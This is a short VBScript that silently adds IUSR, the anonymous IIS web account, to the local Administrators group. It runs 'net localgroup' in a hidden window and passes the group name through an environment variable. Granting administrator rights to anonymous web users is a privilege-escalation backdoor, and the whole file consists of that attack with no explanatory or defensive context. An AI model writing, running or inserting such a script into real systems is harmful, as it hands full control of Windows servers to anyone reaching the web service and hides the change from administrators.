Set env = CreateObject("WScript.Shell").Environment("PROCESS")
env("TARGET_GROUP") = "Administrators"
CreateObject("WScript.Shell").Run "net localgroup %TARGET_GROUP% IUSR /add", 0, True
